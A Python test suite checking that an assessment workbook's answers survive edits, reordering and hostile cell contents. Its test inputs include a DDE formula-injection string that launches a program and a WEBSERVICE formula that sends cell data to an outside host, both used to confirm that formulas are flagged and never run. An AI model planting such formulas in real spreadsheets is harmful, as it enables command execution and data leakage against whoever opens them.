"""The workbook: what goes in comes out, whatever was written and whatever was done to the file
in between.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping
from dataclasses import replace
from datetime import date, datetime
from itertools import chain
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from openpyxl.chart import BarChart
from openpyxl.styles import Font, PatternFill, Protection
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.worksheet import Worksheet

from arms_docs.assessment.ask import Form, Question, Section
from arms_docs.assessment.assemble import assemble
from arms_docs.assessment.declare import CELL_LIMIT, Kind, Shape
from arms_docs.assessment.form import Assessment, questions
from arms_docs.assessment.not_known import UNREADABLE
from arms_docs.assessment.parse import clean
from arms_docs.problems import Code, Place, Stage
from arms_docs.rating import Reading
from arms_docs.reading.pipeline import judge
from arms_docs.workbook.intake.find_by_key import find_answers
from arms_docs.workbook.sheets.layout import (
    END_KEY,
    FORM_HEADS,
    HEADS_KEY,
    LISTS_SHEET,
    STAMP_SCHEMA,
    STAMP_SHEET,
    START_SHEET,
    answer_cells,
    lay_out,
)
from arms_docs.workbook.write.write_workbook import write_workbook
from tests.support.builders import DAYS, INSTRUMENT, place_of
from tests.support.edited_workbooks import (
    ON,
    answer,
    cells_in,
    find,
    looked_into,
    opened,
    opened_to_be_read,
    read,
    saved,
)
from tests.support.fills import FORM, WHOLE
from tests.support.made_once import made_once

CELLS = tuple(chain.from_iterable(map(answer_cells, lay_out(FORM).values())))
NARRATIVES = tuple(
    place
    for place, _, _, question in CELLS
    if question.kind is Kind.TEXT and question.limit == CELL_LIMIT
)


Cases = Mapping[str, Mapping[Place, object]]

# What is past its date on the case's own day, and nothing else may be said of it.
LATE_WHEN_ASSESSED = {
    "very_high_imminent": ["context.last_visit", "actions.A1.due", "actions.A3.due"]
}


# one with gaps and one that is late; the others are proofs, and read in most tests here
COME_BACK = ("high_with_gap", "very_high_imminent")


@pytest.mark.parametrize(
    "name", [n if n in COME_BACK else pytest.param(n, marks=pytest.mark.prove) for n in DAYS]
)
def test_answers_come_back_as_they_went_in(
    name: str, cases: Cases, workbooks: Mapping[str, bytes]
) -> None:
    raw = cases[name]
    answers = find_answers(looked_into(workbooks[name]), FORM)
    assert answers.problems == []
    back = {place: value for place, value in answers.raw.items() if value is not None}
    assert set(back) == set(raw)
    for place, value in back.items():
        plain = value.date() if isinstance(value, datetime) else value
        typed = raw[place]
        assert plain == (clean(str(typed)) if isinstance(plain, str) else typed), place
    reading = read(workbooks[name], on=DAYS[name])
    assert [str(p.place) for p in reading.problems] == LATE_WHEN_ASSESSED.get(name, [])
    assert reading.assessment == assemble(raw, WHOLE, Stage.SIGN_OFF)[0]
    assert reading.rating == judge(raw, INSTRUMENT, on=DAYS[name]).rating


def questions_of(section: Section) -> int:
    """How many questions a section asks, in all of its rows."""
    return sum(len(section.asked(row)) for row in section.rows)


def test_blank_workbook_is_read_as_nothing_answered() -> None:
    answers = find_answers(opened(made_once(write_workbook, FORM)), FORM)
    assert not any(answers.raw.values())
    assert set(answers.cells) == {place for place, _, _, _ in CELLS}
    assert len(answers.cells) == sum(map(questions_of, FORM.sections))
    assert len(set(answers.cells.values())) == len(answers.cells)
    reading = read(made_once(write_workbook, FORM), Stage.SUBMISSION)
    assert {p.code for p in reading.problems} == {Code.MISSING, Code.NO_ROWS, Code.RM2000_NOT_GIVEN}
    assert all(p.cell and p.label for p in reading.problems)


def something_for(question: Question, number: int) -> object:
    """An answer for this question, another one for each number."""
    match question.kind:
        case Kind.TEXT:
            return f"text {number}"
        case Kind.DATE | Kind.DATE_OR_MONTH:
            return date.fromordinal(date(2000, 1, 1).toordinal() + number)
        case Kind.NUMBER:
            return number
        case Kind.REFERENCES:
            return f"E{number}"
        case Kind.CHOICE:
            return question.choices[number % len(question.choices)].word


def test_every_question_has_a_cell_of_its_own_and_every_answer_is_read_from_it() -> None:
    """Fill every cell of the form, all of its rows, each with something of its own."""
    raw: dict[Place, object] = {}
    for number, (place, _, _, question) in enumerate(CELLS):
        raw[place] = something_for(question, number)
    assert len(raw) > 900
    content = write_workbook(FORM, raw)
    answers = find_answers(looked_into(content), FORM)
    assert {p: v.date() if isinstance(v, datetime) else v for p, v in answers.raw.items()} == raw
    assert read(content).assessment == assemble(raw, WHOLE)[0]


NASTY = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+441632960000",
    "-5 to 5",
    "- a list",
    "@home",
    "'quoted",
    "_x0041_",
    "_x005F_x0041_",
    "__x000D__",
    "_x00e9",
    "_x0041_x0042_",
    "😀 e\u0301 \U0001f468\u200d\U0001f469",
    "\u202eright-to-left\u202c עברית العربية",
    "one_x000B_two",
    "Check",
    "End of this sheet",
    END_KEY,
    STAMP_SHEET,
    "result.indicated",
    "sources.E1",
    "sources",
    "😀" * 1500,
    "two\nlines\n\nand a gap",
    "tab\there",
    "a  b   c",
    "<b>&amp;</b> ]]> & < > \" '",
    "#REF!",
    "#N/A",
    "TRUE",
    "1e5",
    "00123",
    "27/03/2026",
    "12:30",
    "50%",
    "factors.R1.rating",
    "actions.A1",
    "Your answer",
    "Question",
    HEADS_KEY,
    STAMP_SCHEMA,
    "owner",
    "also_1",
    "Also for factor",
    "E1",
    "{braces} {0}",
    "x" * 3000,
    "y" * CELL_LIMIT,
    "line\n" * 6000 + "end",
    "\ufffd \u00a0 \u2028 \x85 \x9f \ufdd0",
)


TEXTS = st.one_of(
    st.sampled_from(NASTY),
    st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=60),
    st.text(alphabet="_x0041F5=+-@'\"<&\n\t\u200b 😀", min_size=1, max_size=30),
    st.sampled_from([str(place) for place in NARRATIVES]),
    st.sampled_from(sorted({question.label for _, _, _, question in CELLS})),
)


def written(text: object) -> object:
    """What a text is taken for, whether it came through a workbook or not."""
    return clean(text) if isinstance(text, str) else text


MANY_TEXTS = st.dictionaries(st.sampled_from(NARRATIVES), TEXTS, min_size=40, max_size=120)


def test_nasty_texts_come_back_as_they_were_written() -> None:
    check_written_and_read(dict(zip(NARRATIVES, NASTY, strict=False)))


@pytest.mark.prove
@settings(max_examples=20)
@example(dict(zip(reversed(NARRATIVES), NASTY, strict=False)))
@given(MANY_TEXTS)
def test_many_texts_come_back_as_they_were_written(texts: dict[Place, str]) -> None:
    check_written_and_read(texts)


def check_written_and_read(texts: dict[Place, str]) -> None:
    # Line breaks of another kind are the one thing that the writer does not take: see below.
    raw = {place: re.sub(r"[\v\f]", " ", text) for place, text in texts.items()}
    content = write_workbook(FORM, raw)
    answers = find_answers(looked_into(content), FORM)
    assert answers.problems == []
    back = {place: written(value) for place, value in answers.raw.items() if value is not None}
    assert back == {place: clean(text) for place, text in raw.items() if clean(text)}
    direct = judge(raw, INSTRUMENT, on=ON)
    reading = read(content, Stage.SUBMISSION)
    assert reading.assessment == direct.assessment
    # Control characters are left out on writing; whoever judges the answers file hears of them.
    # What no font of the report can print is said of a file only.
    quiet = said_but(Code.CONTROL_CHARACTERS, direct)
    assert said_but(Code.UNPRINTABLE, reading) == quiet


def said_but(code: Code, reading: Reading) -> list[tuple[object, ...]]:
    """Every problem but those of one kind."""
    return [(p.code, p.place, p.facts) for p in reading.problems if p.code is not code]


@pytest.fixture(scope="module")
def odd() -> Assessment:
    """What is read of answers that no cell holds as they are."""
    raw: dict[str, object] = {
        "factors.R1.rationale": "a\vb",
        "factors.R2.rationale": "a\fb",
        "rm2000.age": float("nan"),
        "person.born": datetime.fromisoformat("1968-05-14T00:00:00+00:00"),
    }
    content = write_workbook(FORM, {place_of(dotted): value for dotted, value in raw.items()})
    assessment = read(content).assessment
    assert assessment is not None
    return assessment


@pytest.mark.parametrize("factor", [0, 1], ids=["\\v", "\\f"])
def test_word_line_breaks_come_back_as_line_breaks(factor: int, odd: Assessment) -> None:
    assert odd.factors[factor].rationale == "a\nb"


def test_number_that_is_not_finite_is_not_lost(odd: Assessment) -> None:
    assert odd.rm2000.age == UNREADABLE


def test_date_with_an_offset_is_written_as_text_and_refused(odd: Assessment) -> None:
    assert odd.person.born == UNREADABLE


def renamed(book: Workbook) -> None:
    for sheet in book.worksheets[1:]:
        sheet.title = f"{sheet.title[:20]} ÄÖ'1"


def reordered(book: Workbook) -> None:
    book.move_sheet("Factors", -4)
    book.move_sheet("Sign-off", -8)
    book.move_sheet(STAMP_SHEET, -12)


def rows_inserted(book: Workbook) -> None:
    for name in lay_out(FORM):
        sheet = book[name]
        for row in sorted({2, 5, 9, sheet.max_row // 2, sheet.max_row}, reverse=True):
            sheet.insert_rows(row)


def column_inserted_before_the_keys(book: Workbook) -> None:
    for name in lay_out(FORM):
        book[name].insert_cols(1, 2)


def column_inserted_before_the_answers(book: Workbook) -> None:
    for name in lay_out(FORM):
        book[name].insert_cols(3)


def column_inserted_between_answers(book: Workbook) -> None:
    for name in lay_out(FORM):
        book[name].insert_cols(4, 2)


def table_columns_moved(book: Workbook) -> None:
    """The last two columns of a table change places, with their keys and heads."""
    for section in FORM.sections:
        if section.shape is Shape.TABLE:
            sheet, keys = find(book, section.key)
            last = 2 + len(section.questions)
            for row in range(keys, keys + len(section.rows) + 2):
                left, right = sheet.cell(row, last - 1).value, sheet.cell(row, last).value
                sheet.cell(row, last - 1).value, sheet.cell(row, last).value = right, left


def names_added(book: Workbook) -> None:
    book.defined_names["factors.R1.rating"] = DefinedName(
        "factors.R1.rating", attr_text="Factors!$C$99"
    )
    book.defined_names["lost"] = DefinedName("lost", attr_text="#REF!")
    book.defined_names["_xlnm._FilterDatabase"] = DefinedName(
        "_xlnm._FilterDatabase", attr_text="Case!$A$1:$D$9"
    )
    for name in [n for n in book.defined_names if n.startswith("list_")]:
        del book.defined_names[name]


def validations_and_formats_pasted_over(book: Workbook) -> None:
    for name, lines in lay_out(FORM).items():
        sheet = book[name]
        sheet.data_validations.dataValidation.clear()
        for _, row, column, question in answer_cells(lines):
            cell = sheet.cell(row, column)
            cell.fill, cell.font = (
                PatternFill("solid", fgColor="FFFF00"),
                Font(name="Comic Sans MS", size=5),
            )
            cell.protection = Protection(locked=True)
            cell.hyperlink = (
                "https://example.org/" if question.kind is Kind.TEXT and cell.value else None
            )
            if not question.kind.is_date:
                cell.number_format = "0.00%"


def unprotected_and_scribbled_on(book: Workbook) -> None:
    for name in lay_out(FORM):
        sheet = book[name]
        sheet.protection.sheet = False
        sheet.column_dimensions["A"].hidden = False
        far = sheet.max_row + 5
        for row, text in enumerate(
            ("my notes", "factors.R1.rating", "Your answer", "Rating", "High"), start=far
        ):
            sheet.cell(row, 25).value = text
        sheet.cell(1, 30).value = "checked by TH"
        sheet.auto_filter.ref = f"A1:D{far}"


def labels_rewritten(book: Workbook) -> None:
    """The words are for people; only "Your answer" is looked for, and it need not be found."""
    for name, lines in lay_out(FORM).items():
        for line in lines:
            if line.kind in ("title", "section", "intro", "card", "question", "row"):
                book[name].cell(line.number, 2).value = "Your answer"
            elif line.key == HEADS_KEY:
                for column in (2, 3, 4):
                    book[name].cell(line.number, column).value = f"Antwort {column}"


def table_heads_reworded(book: Workbook) -> None:
    """As in a workbook made by a version that used other words."""
    for name, lines in lay_out(FORM).items():
        for line in lines:
            if line.kind == "heads" and line.section:
                for column in range(3, 3 + len(line.section.questions)):
                    book[name].cell(line.number, column).value = f"owner {column}"


def other_sheets_added(book: Workbook) -> None:
    sheet = book.create_sheet("Notes", 0)
    sheet.append(("Factor", "Your answer", "High", "Rating"))
    sheet.append(("rating", "R1", "High"))
    sheet.cell(1_048_576, 16_384).value = "far away"
    book.create_chartsheet("Chart").add_chart(BarChart())
    del book[LISTS_SHEET]
    del book[STAMP_SHEET]
    del book[START_SHEET]


DONE: Mapping[str, Callable[[Workbook], None]] = {
    f.__name__: f
    for f in (
        renamed,
        reordered,
        rows_inserted,
        column_inserted_before_the_keys,
        column_inserted_before_the_answers,
        column_inserted_between_answers,
        table_columns_moved,
        names_added,
        validations_and_formats_pasted_over,
        unprotected_and_scribbled_on,
        labels_rewritten,
        table_heads_reworded,
        other_sheets_added,
    )
}


# what is said of words that somebody wrote outside the answers, and of numbers that are shown as
# others; of words of ours that are gone, nothing
REMARKS: Mapping[str, set[Code]] = {
    "validations_and_formats_pasted_over": {Code.SHOWN_OTHERWISE},
    "unprotected_and_scribbled_on": {Code.OUTSIDE},
    "labels_rewritten": {Code.OUTSIDE},
    "table_heads_reworded": {Code.OUTSIDE},
    "other_sheets_added": {Code.OWN_SHEET},
}


# one of each kind of change here, those together that do not touch; each alone is a proof
TRIED = (
    (
        *("table_columns_moved", "rows_inserted", "column_inserted_before_the_keys"),
        "renamed",  # the others go by the names of the sheets
    ),
    ("labels_rewritten", "other_sheets_added"),
    ("unprotected_and_scribbled_on",),
)
ALONE = [(what,) for what in DONE if (what,) not in TRIED]


@pytest.mark.parametrize(
    "changes",
    [*TRIED, *(pytest.param(alone, marks=pytest.mark.prove) for alone in ALONE)],
    ids="-".join,
)
def test_answers_are_found_after(
    changes: tuple[str, ...], workbooks: Mapping[str, bytes], cases: Cases
) -> None:
    book = opened_to_be_read(workbooks["high_with_gap"])
    for what in changes:
        DONE[what](book)
    content = saved(book)
    reading = read(content, Stage.SUBMISSION, on=DAYS["high_with_gap"])
    assert {p.code for p in reading.problems} == set().union(
        *(REMARKS.get(what, set()) for what in changes)
    )
    assert reading.ok
    assert reading.assessment == assemble(cases["high_with_gap"], WHOLE)[0]
    # And each place is given where its answer now stands.
    answers = find_answers(again := looked_into(content), FORM)
    for place, address in answers.cells.items():
        title, cell = address.rsplit("!", 1)
        assert again[title.strip("'").replace("''", "'")][cell].value == answers.raw[place], place


MOVES = ("rows_inserted", "column_inserted_before_the_keys", "renamed")  # a name is looked for


@pytest.mark.parametrize(
    "moves", [MOVES, *(pytest.param((move,), marks=pytest.mark.prove) for move in MOVES)]
)
def test_problems_are_put_at_the_cell_where_the_answer_now_stands(
    moves: tuple[str, ...], workbooks: Mapping[str, bytes]
) -> None:
    book = opened_to_be_read(workbooks["medium_low"])
    answer(book, "factors.P2.rating").value = "Hihg"
    for move in moves:
        DONE[move](book)
    problems = read(saved(book)).problems
    assert [(p.code, str(p.place)) for p in problems] == [(Code.NOT_A_CHOICE, "factors.P2.rating")]
    cells = chain.from_iterable(map(cells_in, book.worksheets))
    (cell,) = [cell for cell in cells if cell.value == "Hihg"]
    here = cell.parent.title.replace("'", "''"), cell.coordinate
    assert problems[0].cell in (f"{here[0]}!{here[1]}", f"'{here[0]}'!{here[1]}")
    assert problems[0].label == f"{INSTRUMENT.factor('P2').label}: Rating"


@pytest.fixture(scope="module")
def moved(workbooks: Mapping[str, bytes]) -> Reading:
    """What is read after an answer and a row of a table were cut and pasted, and unused rows
    deleted.

    Excel moves names and validations along with a cut cell; the key in its row stays.
    """
    book = opened_to_be_read(workbooks["medium_low"])
    sheet, row = find(book, "factors.R1.own_view")
    _, other = find(book, "factors.R4.own_view")
    assert sheet.cell(row, 3).value
    assert sheet.cell(other, 3).value is None
    sheet.move_range(f"C{row}:C{row}", rows=other - row)
    book.defined_names["own_view_R1"] = DefinedName("own_view_R1", attr_text=f"Factors!$C${other}")
    sheet, row = find(book, "actions.A9")
    sheet.move_range(f"D{row}:Q{row}", rows=5)
    for key, count in (("actions.A15", 16), ("sources.E9", 12), ("rounds.SO2", 9)):
        sheet, row = find(book, key)
        sheet.delete_rows(row, count)
    return read(saved(book))


def test_answer_that_was_cut_and_pasted_is_read_where_it_stands(
    moved: Reading, cases: Cases
) -> None:
    assert moved.problems == ()
    assert moved.assessment is not None
    views = {f.id: f.own_view for f in moved.assessment.factors}
    assert not views["R1"]
    assert views["R4"] == clean(str(cases["medium_low"][place_of("factors.R1.own_view")]))


def test_required_answer_that_was_cut_is_missed_where_it_was(
    workbooks: Mapping[str, bytes],
) -> None:
    book = opened_to_be_read(workbooks["medium_low"])
    sheet, row = find(book, "factors.P3.rating")
    _, other = find(book, "factors.P4.own_view")
    sheet.move_range(f"C{row}:C{row}", rows=other - row)
    problems = read(saved(book)).problems
    assert [(p.code, p.cell) for p in problems] == [(Code.MISSING, f"Factors!C{row}")]


def test_table_row_that_was_cut_and_pasted_is_another_row(moved: Reading) -> None:
    assert moved.problems == ()
    assert moved.assessment is not None
    assert [a.id for a in moved.assessment.actions][-2:] == ["A8", "A14"]


def test_unused_rows_may_be_deleted(moved: Reading, cases: Cases) -> None:
    assert moved.problems == ()
    raw = {_after_moves(place): value for place, value in cases["medium_low"].items()}
    assert moved.assessment == assemble(raw, WHOLE)[0]


def _after_moves(place: Place) -> Place:
    if place == place_of("factors.R1.own_view"):
        return place_of("factors.R4.own_view")
    return place._replace(row="A14") if (place.section, place.row) == ("actions", "A9") else place


def lost(reading: Reading) -> list[str]:
    """The parts said to be lost; nothing else may be said."""
    assert {p.code for p in reading.problems} == {Code.LOST_PART}
    assert all(p.label and p.message for p in reading.problems)
    return [str(p.place) for p in reading.problems]


DELETED = (("Case", "Restricted"), ("Factors", "Sign-off"))


@pytest.mark.parametrize(
    "names",
    [
        *DELETED,
        *(pytest.param((name,), marks=pytest.mark.prove) for names in DELETED for name in names),
    ],
)
def test_sheet_that_was_deleted_is_missed_and_nothing_else_is_said(
    names: tuple[str, ...], workbooks: Mapping[str, bytes]
) -> None:
    book = opened_to_be_read(workbooks["medium_low"])
    for name in names:
        del book[name]
    assert lost(read(saved(book))) == sorted(s.key for s in FORM.sections if s.sheet in names)


def test_problems_of_other_parts_are_said_beside_a_lost_one(workbooks: Mapping[str, bytes]) -> None:
    book = opened_to_be_read(workbooks["medium_low"])
    del book["Actions"]
    cell = answer(book, "overall.level")
    cell.value = "Hihg"
    problems = [(p.code, str(p.place), p.cell) for p in read(saved(book)).problems]
    assert problems == [
        (Code.LOST_PART, "actions", ""),
        (Code.NOT_A_CHOICE, "overall.level", f"Overall!{cell.coordinate}"),
    ]


def test_factor_that_was_deleted_is_missed(workbooks: Mapping[str, bytes]) -> None:
    book = opened_to_be_read(workbooks["medium_low"])
    sheet, row = find(book, "factors.R4.rating")
    sheet.delete_rows(row - 1, 14)
    problems = read(saved(book)).problems
    assert {p.code for p in problems} == {Code.LOST_QUESTION}
    assert {(p.place.section, p.place.row) for p in problems} == {("factors", "R4")}


def column_deleted(book: Workbook) -> tuple[Worksheet, int]:
    """The owners of the actions are gone; back come the sheet and the row of its keys."""
    sheet, keys = find(book, "actions")
    sheet.delete_cols(next(c for c in range(1, 20) if sheet.cell(keys, c).value == "owner"))
    return sheet, keys


def rows_of_a_table_deleted(book: Workbook, rows: int) -> None:
    """Restricted information: it must not be lost without a word."""
    sheet, keys = find(book, "restricted")
    assert sheet.cell(keys + 2, 4).value
    sheet.delete_rows(keys, rows)


def test_column_and_table_that_were_deleted_are_missed(workbooks: Mapping[str, bytes]) -> None:
    book = opened_to_be_read(workbooks["medium_low"])
    column_deleted(book)
    rows_of_a_table_deleted(book, 40)
    assert lost(read(saved(book))) == ["actions", "restricted"]


def test_table_whose_row_of_keys_was_deleted_is_missed(workbooks: Mapping[str, bytes]) -> None:
    book = opened_to_be_read(workbooks["medium_low"])
    rows_of_a_table_deleted(book, 1)
    assert "restricted" in {
        str(p.place) for p in read(saved(book)).problems if p.code is Code.LOST_PART
    }


# sheet, rows below the last, column, and part; the last is a form, of whichever part
UNDER = (
    ("Actions", 1, 4, "actions"),
    ("Actions", 4, 12, "actions"),
    ("Restricted", 2, 6, "restricted"),
    ("Overall", 3, 3, ""),
)


def test_what_is_written_under_a_table_or_a_form_is_not_left_out_unseen(
    workbooks: Mapping[str, bytes],
) -> None:
    book = opened_to_be_read(workbooks["medium_low"])
    ends = {name: book[name].max_row for name, *_ in UNDER}
    parts = {}
    for name, down, column, part in UNDER:
        cell = book[name].cell(ends[name] + down, column)
        cell.value, parts[f"{name}!{cell.coordinate}"] = "A31 and more", part
    problems = read(saved(book)).problems
    assert {problem.code for problem in problems} == {Code.STRAY}
    assert sorted(problem.cell for problem in problems) == sorted(parts)
    for problem in problems:
        section = problem.place.section
        assert FORM.section(section) is not None
        assert str(problem.place) == parts[problem.cell] or not parts[problem.cell]
        assert problem.label not in ("", parts[problem.cell])


def test_workbook_made_with_other_words_about_a_factor_is_read(cases: Cases) -> None:
    factors = tuple(replace(factor, line=f"{factor.line} (2027)") for factor in INSTRUMENT.factors)
    older = questions(replace(INSTRUMENT, factors=factors, edition="2027.1"))
    content = write_workbook(older, cases["medium_low"])
    assert [p.code for p in read(content, Stage.SUBMISSION).problems] == [Code.OTHER_EDITION]


def test_sheet_that_was_copied_with_the_same_answers_is_no_matter(
    workbooks: Mapping[str, bytes],
) -> None:
    book = opened_to_be_read(workbooks["medium_low"])
    for name in lay_out(FORM):
        book.copy_worksheet(book[name])
    assert read(saved(book)).problems == ()


def test_answer_in_either_of_two_copies_is_found(
    workbooks: Mapping[str, bytes], cases: Cases
) -> None:
    book = opened_to_be_read(workbooks["medium_low"])
    copy = book.copy_worksheet(book["Overall"])
    for _, row, column, _ in answer_cells(lay_out(FORM)["Overall"]):
        book["Overall"].cell(row, column).value = None  # somebody went on in the copy
    content = saved(book)
    assert read(content).assessment == assemble(cases["medium_low"], WHOLE)[0]
    assert (
        find_answers(looked_into(content), FORM)
        .cells[place_of("overall.level")]
        .startswith(f"'{copy.title}'!")
    )


def test_question_that_two_copies_leave_blank_is_said_at_the_first(
    workbooks: Mapping[str, bytes],
) -> None:
    book = opened_to_be_read(workbooks["medium_low"])
    cell = answer(book, "overall.level")
    cell.value = None
    book.copy_worksheet(book["Overall"])
    problems = [p for p in read(saved(book)).problems if p.code is Code.MISSING]
    assert [p.cell for p in problems] == [f"Overall!{cell.coordinate}"]


def test_keys_pasted_among_the_answers_do_not_mislead(cases: Cases) -> None:
    """Somebody pastes our own key column into the answers of the smallest table."""
    raw = dict(cases["medium_low"])
    for number in range(1, 10):
        raw[Place("restricted", f"X{number}", "relates_to")] = f"restricted.X{number + 1}"
        raw[Place("restricted", f"X{number}", "text")] = f"restricted.X{number}"
        raw[Place("restricted", f"X{number}", "why")] = "restricted"
    reading = read(write_workbook(FORM, raw))
    assert reading.problems == ()
    assert reading.assessment == assemble(raw, WHOLE)[0]


# What is typed into three workbooks, and what is said of it.
VALUES: tuple[tuple[tuple[str, Any, list[Code]], ...], ...] = (
    (
        ("person.born", 25000, []),
        ("factors.R1.rationale", 12, []),
        ("factors.R1.rating", True, [Code.NOT_A_CHOICE]),
        ("rm2000.male", True, []),
        ("review.visit_every", 5.5, [Code.NOT_A_NUMBER]),
    ),
    (
        ("person.born", datetime.fromisoformat("1968-05-14T09:30:00"), [Code.DATE_WITH_TIME]),
        ("factors.R1.rationale", "#N/A", [Code.IS_CELL_ERROR]),
        ("factors.R2.rationale", "a_x0007_b_x000B_c_x000D__x000A_d", [Code.CONTROL_CHARACTERS]),
        ("review.visit_every", datetime.fromisoformat("2026-01-06"), [Code.NOT_A_NUMBER]),
    ),
    (
        ("person.born", 3_000_000, [Code.IS_CELL_ERROR]),
        ("factors.R1.rationale", '=WEBSERVICE("https://example.org/"&A1)', [Code.IS_FORMULA]),
        ("factors.R2.rationale", '=HYPERLINK("https://example.org/")', [Code.IS_FORMULA]),
    ),
)


@pytest.fixture(scope="module")
def arrived(workbooks: Mapping[str, bytes]) -> list[Reading]:
    """What is read of these three workbooks."""
    readings = []
    for typed in VALUES:
        book = opened_to_be_read(workbooks["medium_low"])
        for key, value, _ in typed:
            answer(book, key).value = value
        readings.append(read(saved(book)))
    return readings


@pytest.mark.parametrize("number", [0, 1, 2])
def test_cells_are_read_as_they_really_arrive(number: int, arrived: list[Reading]) -> None:
    problems = [(p.code, str(p.place)) for p in arrived[number].problems]
    said = [(code, key) for key, _, codes in VALUES[number] for code in codes]
    if Code.CONTROL_CHARACTERS in {code for code, _ in said}:  # a warning, and nobody accepted it
        said.append((Code.WARNINGS_OPEN, "rounds.SO1.warnings_accepted"))
    assert sorted(problems, key=str) == sorted(said, key=str)


def test_control_characters_that_a_cell_holds_are_said_and_left_out(
    arrived: list[Reading],
) -> None:
    """They are said of it once: see above."""
    reading = arrived[1]
    assert reading.assessment is not None
    assert reading.assessment.factors[1].rationale == "ab\nc\nd"


def test_problem_for_a_formula_quotes_it_and_does_not_run_it(arrived: list[Reading]) -> None:
    (problem,) = [p for p in arrived[2].problems if p.place == place_of("factors.R1.rationale")]
    assert problem.typed == '=WEBSERVICE("https://example.org/"&A1)'
    assert FORM_HEADS[1] not in problem.message


def test_form_is_the_one_that_the_instrument_makes(form: Form) -> None:
    assert form is WHOLE
